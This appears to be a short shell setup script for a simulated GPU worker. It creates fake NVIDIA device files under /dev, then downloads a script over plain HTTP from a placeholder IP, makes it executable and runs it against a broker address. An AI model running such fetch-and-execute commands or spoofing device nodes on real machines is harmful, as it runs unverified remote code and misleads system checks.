# a downloaded GPU worker that waits for its broker before it has a model
#http 203.0.113.72:8090
#pool 203.0.113.78:8085:err
for d in nvidiactl nvidia0 nvidia-uvm; do touch /dev/$d; done
curl -so /opt/worker http://203.0.113.72:8090/waitw.py; chmod +x /opt/worker; timeout 20 /opt/worker 203.0.113.78 8085
